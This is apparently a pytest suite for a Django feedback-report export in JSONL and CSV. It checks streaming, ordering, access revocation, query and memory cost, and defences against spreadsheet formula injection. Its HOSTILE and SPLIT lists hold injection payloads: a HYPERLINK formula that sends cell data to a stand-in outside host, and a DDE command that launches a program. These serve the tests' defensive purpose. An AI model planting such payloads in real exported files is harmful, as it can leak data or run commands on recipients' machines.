"""Reports as a file: JSONL exact, CSV safe, streamed as they are read, refused before the first byte."""

import csv
import gc
import io
import json
import re
import tracemalloc
from datetime import timedelta

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from accounts.models import ApiToken, User
from feedback import digesting, exporting, quoting, taxonomy
from feedback.models import Triage, UserFeedback
from tests import make
from tests.conftest import data_of, refusal_of

EXPORT = "admin/feedback/export"
HOSTILE = [
    '=HYPERLINK("http://elsewhere.example/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
    'a "quoted", cell\r\nof two lines',
    "a,b;c\t\u2028☃ \U0001f9f5",
    "\u202eevil",
    "plain",
    "'=already",
]


@pytest.fixture
def thread(who):
    return make.conversation(who.alice, 40, visibility="org")


@pytest.fixture
def act(api):
    def done(feedback_id, verb, **arguments):
        return data_of(
            api("admin").post(f"admin/feedback/{feedback_id}/actions", {"verb": verb, "arguments": arguments})
        )

    return done


@pytest.fixture
def exported(api):
    """`exported(format="csv", q=...)`: the bytes of the file."""

    def asked(**query):
        response = api("admin").client.get(
            f"/v1/ai/{EXPORT}", query, headers={"Authorization": api("admin").headers["Authorization"]}
        )
        assert response.status_code == 200 and response.streaming
        return b"".join(response.streaming_content)

    return asked


def many(who, thread, count):
    """That many reports, without a message for each of them."""
    rows = [
        UserFeedback(
            thread=thread,
            message_sequence_num=1000 + place,
            org=who.acme,
            created_by=who.alice.user,
            modified_by=who.alice.user,
            sentiment="negative",
            categories=["slow"],
            category_bits=taxonomy.bits(["slow"]),
            notes=f"Number {place} " + "x" * 200,
        )
        for place in range(count)
    ]
    UserFeedback.objects.bulk_create(rows, batch_size=500)
    UserFeedback.objects.update(modified=timezone.now())


def rows_of(content):
    return list(csv.DictReader(io.StringIO(content.decode(), newline="")))


def test_jsonl_holds_what_the_desk_knows_newest_first(who, api, thread, act, exported):
    given = [make.rating(who.alice, thread, index, notes=f"Report {index}").feedback_id for index in (1, 3, 5)]
    act(given[0], "duplicate", duplicate_of=given[1])
    act(given[1], "label", add=["money", "bags"])
    act(given[1], "own", owner="me")
    act(given[2], "reply", public_reply="Row 12.")
    said = [data_of(api("admin").post(f"admin/feedback/{given[2]}/comments", {"text": text})) for text in ("a", "b")]
    gone = data_of(api("admin").post(f"admin/feedback/{given[2]}/comments", {"text": "gone"}))["comment_id"]
    data_of(api("admin").request("DELETE", f"admin/feedback/{given[2]}/comments/{gone}"))
    found = [json.loads(line) for line in exported().splitlines()]
    assert [each["feedback_id"] for each in found] == given[::-1]
    comments = [each.pop("comments") for each in found]
    assert comments == [[{key: each[key] for key in ("author", "created", "text")} for each in said], [], []]
    for each in found:
        record = data_of(api("admin").get(f"admin/feedback/{each['feedback_id']}/triage"))
        assert {key: value for key, value in record.items() if key not in ("lease", "version")} == each
    assert exported().endswith(b"}\n")
    rows = list(csv.DictReader(io.StringIO(exported(format="csv").decode(), newline="")))
    assert [row["comments"] for row in rows] == ["admin@heddle.test: a\nadmin@heddle.test: b", "", ""]


def test_with_what_was_asked_and_answered(who, api, exported):
    thread = make.send(
        who.alice,
        make.thread(who.alice, "Hello", visibility="org"),
        'How many? [[call calculate {"expression": "6*7"}]]',
    )
    last = make.fresh(thread).message_count - 1
    make.rating(who.alice, thread, 1)
    make.rating(who.alice, thread, last, "positive", notes="Right.")
    digesting.catch_up()
    newest, oldest = [json.loads(line) for line in exported(conversation="true").splitlines()]
    assert newest["request"].startswith("How many?") and oldest["request"] == "Hello"
    record = data_of(api("admin").get(f"threads/{thread.thread_id}"))
    said = ["".join(block.get("text", "") for block in record["messages"][place]["content"]) for place in (last, 1)]
    assert [newest["answer"], oldest["answer"]] == said and all(said)
    assert (newest["tools"], oldest["tools"]) == (["calculate"], [])
    assert newest["model_profile"] == "simulated" and newest["error_code"] == ""
    plain = [json.loads(line) for line in exported().splitlines()]
    assert [{key: value for key, value in each.items() if key in plain[0]} for each in (newest, oldest)] == plain
    [row, _] = rows_of(exported(conversation="true", format="csv"))
    assert row["answer"] == newest["answer"] and row["tools"] == "calculate"


@pytest.mark.parametrize("said", HOSTILE)
def test_what_people_write_comes_back_and_is_no_formula(who, thread, act, exported, said):
    """In the submitter's notes, in the admins' note, label and reply; JSONL has it as it was written."""
    report = make.rating(who.alice, thread, 1, notes=said).feedback_id
    act(report, "note", admin_note=said)
    act(report, "reply", public_reply=said)
    [line] = [json.loads(line) for line in exported(format="jsonl").splitlines()]
    assert line["notes"] == line["admin_note"] == line["public_reply"] == said
    [row] = rows_of(exported(format="csv"))
    for name in ("notes", "admin_note", "public_reply"):
        is_formula = said.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d"))
        inner = re.sub("([\t\r])=", r"\1'=", said)  # a reader that splits there finds a formula
        assert row[name] == (f"'{inner}" if is_formula else inner)
        assert not row[name].startswith(("=", "+", "-", "@", "\t", "\r"))


SPLIT = [
    (f"thanks{between}{quotes}{formula}{rest}", f"thanks{between}'{quotes}{formula}{rest}")
    for between in (";", "\t", "\n", "\r", "\r\n", ";;", "\n\n", "\t;")
    for quotes, rest in (("", ""), ("", ";"), ('"', '"'), ('"', ""), ('""', ';"x"'), ('"""', '",;'))
    for formula in ("=1+1", "+1", "-2+3", "@SUM(A1)", "\uff1d1")
]


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_part_of_a_cell_is_a_formula_wherever_a_spreadsheet_splits_it(who, thread, exported, delimiter):
    """In German and French locales it splits at semicolons, where a quoted cell is not kept together."""
    many(who, thread, len(SPLIT))
    for row, (said, _) in zip(UserFeedback.objects.order_by("pk"), SPLIT, strict=True):
        UserFeedback.objects.filter(pk=row.pk).update(notes=said, admin_label='a;"b"')
    content = exported(format="csv", q="sort:oldest")
    assert [row["notes"] for row in rows_of(content)] == [neutral for _, neutral in SPLIT]
    read = list(csv.reader(io.StringIO(content.decode(), newline=""), delimiter=delimiter))
    assert len(read) > len(SPLIT) or delimiter != ","
    found = [cell for row in read for cell in row if cell.lstrip('"').startswith(("=", "+", "-", "@", "\uff1d"))]
    assert found == []


@pytest.mark.parametrize(
    "said", ["a;b", "a; =b", "a;1-2=3", 'x;"y"\n\tz', "a=1;b=2\nc\td", "e-mail: a@b.test;c@d.test"]
)
def test_what_is_no_formula_in_any_part_comes_back_as_it_was(who, thread, exported, said):
    make.rating(who.alice, thread, 1, notes=said)
    [row] = rows_of(exported(format="csv"))
    assert row["notes"] == said


def test_labels_and_names_are_no_formulas_either(who, thread, act, exported):
    report = make.rating(who.alice, thread, 1).feedback_id
    act(report, "label", add=["=1+1", "b"])
    [row] = rows_of(exported(format="csv"))
    assert (row["admin_label"], row["labels"]) == ("'=1+1, b", "'=1+1, b")


def test_csv_is_rfc_4180_and_tells_its_columns(who, thread, exported):
    make.rating(who.alice, thread, 1, categories=["slow", "unsafe"], notes='He said "no", twice')
    content = exported(format="csv")
    head, row = content.decode().split("\r\n")[:2]
    columns = head.split(",")
    assert columns[:3] == ["feedback_id", "thread_id", "message_sequence_num"]
    assert {"notes", "labels", "owner", "outcome", "duplicate_of", "public_reply"} <= set(columns)
    assert "lease" not in columns and "version" not in columns
    assert ',"slow, unsafe","He said ""no"", twice",' in row
    assert content.endswith(b"\r\n") and content.count(b"\r\n") == 2
    [found] = rows_of(content)
    assert (found["resolved"], found["resolved_at"], found["owner"]) == ("false", "", "")
    assert found["created"].endswith("Z")


def test_csv_starts_with_the_mark_of_utf8_where_it_is_asked_for(who, thread, exported):
    make.rating(who.alice, thread, 1, notes="☃")
    plain, marked = exported(format="csv"), exported(format="csv", bom="true")
    assert marked == b"\xef\xbb\xbf" + plain
    assert not exported(format="jsonl", bom="true").startswith(b"\xef")


def test_a_query_chooses_and_none_is_an_empty_file(who, thread, exported):
    make.rating(who.alice, thread, 1, notes="Wrong seat")
    make.rating(who.alice, thread, 3, sentiment="positive")
    assert len(exported(q="sentiment:negative").splitlines()) == 1
    assert exported(q="seat AND nowhere") == b""
    assert exported(q="label:none-such", format="csv").count(b"\r\n") == 1


@pytest.mark.parametrize(
    ("query", "named"),
    [
        ("format=xlsx", "format"),
        ("q=lable:x", "lable"),
        ("q=is:", "is:"),
        ("format=csv&q=(", "q:"),
        ("bom=maybe", "bom"),
        ("conversation=all", "conversation"),
    ],
)
def test_what_is_wrong_is_told_before_any_byte(api, browser_of, query, named):
    status, code, said = refusal_of(api("admin").get(f"{EXPORT}?{query}"))
    assert (status, code) == (400, "RobotoInvalidRequestException") and named in said
    page = browser_of("admin").get(f"/feedback/export/?{query}")
    assert page.status_code == 400 and "Content-Disposition" not in page.headers


@pytest.mark.parametrize(
    ("form", "kind"),
    [("csv", "text/csv; charset=utf-8"), ("jsonl", "application/x-ndjson"), ("", "application/x-ndjson")],
)
def test_both_doors_give_a_file_with_a_name(who, thread, api, browser_of, form, kind):
    make.rating(who.alice, thread, 1)
    answers = [api("admin").get(f"{EXPORT}?format={form}"), browser_of("admin").get(f"/feedback/export/?format={form}")]
    assert len({b"".join(answer.streaming_content) for answer in answers}) == 1
    for answer in answers:
        assert answer["Content-Type"] == kind
        assert answer["Content-Disposition"].startswith('attachment; filename="feedback-2')
        assert answer["Content-Disposition"].endswith(f'.{form or "jsonl"}"')
        assert answer["X-Content-Type-Options"] == "nosniff"
        assert "no-store" in answer["Cache-Control"]
    with_answers = api("admin").get(f"{EXPORT}?format={form}&conversation=true")
    assert with_answers["Content-Disposition"].startswith('attachment; filename="feedback-with-answers-2')


def test_the_first_bytes_come_before_the_last_report_is_read(who, thread, api, monkeypatch):
    """What is taken back meanwhile and was not read yet is not in the file any more."""
    monkeypatch.setattr(exporting, "FIRST", 2)
    for index in (1, 3, 5, 7):
        make.rating(who.alice, thread, index)
    oldest = UserFeedback.objects.earliest("pk").feedback_id
    response = api("admin").get(EXPORT)
    pieces = iter(response.streaming_content)
    begun = next(pieces)
    assert begun.count(b"\n") == 2
    assert api("alice").request("DELETE", f"threads/{thread.thread_id}/messages/1/feedback").status_code == 200
    rest = b"".join(pieces)
    assert rest.count(b"\n") == 1 and oldest.encode() not in begun + rest


@pytest.mark.parametrize(
    ("door", "loss"),
    [
        ("api", "staff"),
        ("api", "disabled"),
        ("api", "token"),
        ("page", "staff"),
        ("page", "disabled"),
        ("page", "session"),
    ],
)
@pytest.mark.parametrize("form", ["jsonl", "csv"])
def test_a_download_ends_when_the_right_is_gone(who, thread, api, browser_of, monkeypatch, door, loss, form):
    monkeypatch.setattr(exporting, "FIRST", 2)
    monkeypatch.setattr(exporting, "CHUNK", 2)
    many(who, thread, 10)
    client = browser_of("admin")
    asked = {"api": lambda: api("admin").get(f"{EXPORT}?format={form}")}
    asked["page"] = lambda: client.get(f"/feedback/export/?format={form}")
    assert b"".join(asked[door]().streaming_content).count(b"Number") == 10
    pieces = iter(asked[door]().streaming_content)
    begun = next(pieces)
    user = User.objects.filter(pk=who.admin.user.pk)
    match loss:
        case "staff":
            user.update(is_staff=False)
        case "disabled":
            user.update(is_active=False)
        case "token":
            ApiToken.objects.filter(user__in=user).update(revoked_at=timezone.now())
        case "session":
            client.post("/signout/")
    assert begun.count(b"Number") == 2 and b"".join(pieces).count(b"Number") == 0


@pytest.mark.parametrize("name", ["oldest", "due"])
def test_a_file_may_have_another_order(who, thread, exported, monkeypatch, name):
    monkeypatch.setattr(exporting, "FIRST", 1)
    monkeypatch.setattr(exporting, "CHUNK", 2)
    given = [make.rating(who.alice, thread, 2 * place + 1).feedback_id for place in range(6)]
    for row in UserFeedback.objects.order_by("pk")[:5]:
        Triage.objects.create(feedback=row, snoozed_until=timezone.now())
    assert [json.loads(line)["feedback_id"] for line in exported(q=f"sort:{name}").splitlines()] == given


@pytest.mark.parametrize("name", ["due", "edited"])
def test_what_changes_its_place_meanwhile_neither_repeats_nor_is_missing(who, thread, api, act, monkeypatch, name):
    """Two reports have the timestamp that sorts them; one of these and one of the others change it."""
    monkeypatch.setattr(exporting, "FIRST", 1)
    monkeypatch.setattr(exporting, "CHUNK", 2)
    soon, later = (timezone.now() + timedelta(days=days) for days in (1, 2))
    given = [make.rating(who.alice, thread, 2 * place + 1).feedback_id for place in range(6)]
    if name == "due":
        act(given[0], "snooze", until=soon.isoformat())
        act(given[1], "snooze", until=later.isoformat())
    else:
        make.rating(who.alice, thread, 3, notes="Edited.")
        make.rating(who.alice, thread, 1, notes="Edited last.")
    pieces = iter(api("admin").get(f"{EXPORT}?q=sort:{name}").streaming_content)
    begun = next(pieces)
    if name == "due":
        act(given[0], "wake")
        act(given[2], "snooze", until=soon.isoformat())
    else:
        make.rating(who.alice, thread, 3, notes="Edited again.")
        make.rating(who.alice, thread, 5, notes="Edited now.")
    found = [json.loads(line)["feedback_id"] for line in (begun + b"".join(pieces)).splitlines()]
    assert found == [given[place] for place in (0, 1, 5, 4, 3, 2)]


def test_what_no_longer_matches_when_its_turn_comes_is_left_out(who, thread, api, act, monkeypatch):
    monkeypatch.setattr(exporting, "FIRST", 1)
    given = [make.rating(who.alice, thread, 2 * place + 1).feedback_id for place in range(3)]
    for place in range(2):
        act(given[place], "snooze", until=(timezone.now() + timedelta(days=1 + place)).isoformat())
    pieces = iter(api("admin").get(f"{EXPORT}?q=is:open%20sort:due").streaming_content)
    begun = next(pieces)
    act(given[1], "resolve")
    found = [json.loads(line)["feedback_id"] for line in (begun + b"".join(pieces)).splitlines()]
    assert found == [given[0], given[2]]


def test_reports_that_arrive_meanwhile_neither_repeat_nor_hide_others(who, thread, api, monkeypatch):
    monkeypatch.setattr(exporting, "FIRST", 1)
    monkeypatch.setattr(exporting, "CHUNK", 1)
    given = [make.rating(who.alice, thread, index).feedback_id for index in (1, 3, 5)]
    found = []
    for place, piece in enumerate(api("admin").get(EXPORT).streaming_content):
        found.append(json.loads(piece)["feedback_id"])
        make.rating(who.bob, thread, 2 * place + 1)
    assert found == given[::-1]


def test_ten_times_the_reports_in_a_stretch_cost_no_more_queries(who, thread, exported):
    many(who, thread, 3)
    exported()  # a token's first use is noted
    with CaptureQueriesContext(connection) as few:
        exported()
    many_more = UserFeedback.objects.count() * 10
    UserFeedback.objects.all().delete()
    many(who, thread, many_more)
    with CaptureQueriesContext(connection) as more:
        exported()
    assert len(more) == len(few)


@pytest.mark.parametrize("query", ["", "sort:edited"])
def test_memory_does_not_grow_with_the_reports(who, thread, monkeypatch, query):
    monkeypatch.setattr(exporting, "CHUNK", 100)

    def peak():
        """In bytes, with whatever Python has not yet collected; and the size."""
        gc.collect()
        tracemalloc.start()
        size = sum(len(piece) for piece in exporting.export(who.admin.actor, query, "csv"))
        found = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
        return found, size

    many(who, thread, 200)
    peak()  # what is compiled once
    few, small = peak()
    UserFeedback.objects.all().delete()
    many(who, thread, 4000)
    more, large = peak()
    assert large > 18 * small
    assert more < 4 * few, (few, more, large)  # with all of them in hand it is 28 times as much


@pytest.mark.parametrize("name", ["alice", "bob", "eve"])
def test_the_file_is_for_admins(who, thread, api, browser_of, name):
    make.rating(who.alice, thread, 1)
    assert refusal_of(api(name).get(f"{EXPORT}?q=lable:x"))[0] == 403
    assert browser_of(name).get("/feedback/export/").status_code == 403
    assert browser_of(None).get("/feedback/export/").status_code == 302


@pytest.mark.skipif(connection.vendor != "postgresql", reason="SQLite says nothing of how often it did a step")
def test_what_was_asked_is_looked_up_once_for_each_report(who, thread):
    """And not for each block of its thread, which takes a minute where that has thousands."""
    for place in (1, 39):
        make.rating(who.alice, thread, place)
    pks = list(UserFeedback.objects.values_list("pk", flat=True))
    with CaptureQueriesContext(connection) as asked:
        quoted = quoting.quoted(pks)
    assert all(each.request and each.answer for each in quoted.values())
    [texts] = [each["sql"] for each in asked if "threads_block" in each["sql"]]
    with connection.cursor() as cursor:
        cursor.execute("EXPLAIN (ANALYZE, FORMAT JSON) " + texts)
        [[[plan]]] = cursor.fetchall()
    assert _lookups(plan["Plan"]) == len(pks)


def _lookups(step):
    """How often a plan looked for messages."""
    own = step["Actual Loops"] if step.get("Relation Name") == "threads_message" else 0
    return own + sum(_lookups(each) for each in step.get("Plans", ()))
